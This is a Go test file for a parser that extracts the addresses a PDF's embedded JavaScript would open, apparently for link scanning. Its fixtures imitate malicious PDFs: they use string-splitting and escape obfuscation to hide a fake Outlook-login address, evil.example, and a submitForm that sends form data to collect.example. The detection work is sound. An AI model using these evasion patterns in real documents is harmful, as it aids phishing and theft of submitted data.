package links

import (
	"slices"
	"strings"
	"testing"
)

// TestPDFScriptURLs: the addresses a PDF's JavaScript actions open are
// read, joining an argument's literal string pieces; nothing is run.
func TestPDFScriptURLs(t *testing.T) {
	const head = "%PDF-1.7\n"
	js := func(s string) string { return head + "1 0 obj<</OpenAction<</S/JavaScript/JS" + s + ">>>>endobj\n" }
	tests := []struct {
		name string
		pdf  string
		want []string
	}{
		{"launchURL split", js(`(app.launchURL\("https://login-" + "verify.example/owa/", true\);)`), []string{"https://login-verify.example/owa/"}},
		{"many pieces, quotes and escapes", js(`(this.getURL\('ht' +"tps:/" + '/e\\x76il.example' + "/\\u0061"\))`), []string{"https://evil.example/a"}},
		{"object argument", js(`(this.submitForm\({cURL: "https://" + "collect.example/p", cSubmitAs: "HTML"}\))`), []string{"https://collect.example/p"}},
		{"openDoc, hex string", js("<6170702e6f70656e446f63282768747470733a2f2f6f2e6578616d706c652f2729>"), []string{"https://o.example/"}},
		{"a variable piece drops the argument", js(`(app.launchURL\("https://" + host + "/owa"\))`), nil},
		{"a template substitution drops it", js("(app.launchURL\\(`https://${h}.example/`\\))"), nil},
		{"a URL written out", js(`(var u = "https://w.example/x"; app.launchURL\(u\);)`), []string{"https://w.example/x"}},
		{"call and text agree", js(`(app.launchURL\("https://same.example/"\))`), []string{"https://same.example/"}},
		{"object stream", head + objStm(`7 0 <</S/JavaScript/JS(app.launchURL\("https://" + "i.example/"\))>>`, "/FlateDecode"), []string{"https://i.example/"}},
		{"longer name", js(`x`) + `/JSx (app.launchURL\("https://n.example/"\))`, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var got []string
			for _, u := range pdfURIs([]byte(tt.pdf), 1<<20, 100, nil) {
				got = append(got, u.uri)
			}
			if !slices.Equal(got, tt.want) {
				t.Errorf("pdfURIs = %q, want %q", got, tt.want)
			}
		})
	}
	// submitForm's target is where the form goes.
	us := pdfURIs([]byte(tests[2].pdf), 1<<20, 100, nil)
	if len(us) != 1 || !us[0].submits {
		t.Errorf("submitForm: %+v, want a form target", us)
	}
}

// TestPDFScriptBounded: an argument of too many pieces is dropped.
func TestPDFScriptBounded(t *testing.T) {
	arg := `"https://` + strings.Repeat(`a" + "`, maxJSPieces) + `.example/"`
	if got := jsURLs("app.launchURL("+arg+")", 10); len(got) != 0 {
		t.Errorf("jsURLs = %+v, want none", got)
	}
}

func FuzzPDFScript(f *testing.F) {
	f.Add(`app.launchURL("https://a-" + 'b.example/' + "\x41\u0042", true); this.getURL({cURL: "http://c"})`)
	f.Add("app.openDoc(`https://d.example/${x}`); this.submitForm(\"")
	f.Fuzz(func(t *testing.T, js string) {
		for _, u := range jsURLs(js, 10) {
			if u.uri == "" || len(u.uri) > maxPDFURI {
				t.Fatalf("address %q", u.uri)
			}
		}
		if got := jsURLs(js, 10); len(got) > 10 {
			t.Fatalf("%d addresses, limit 10", len(got))
		}
	})
}
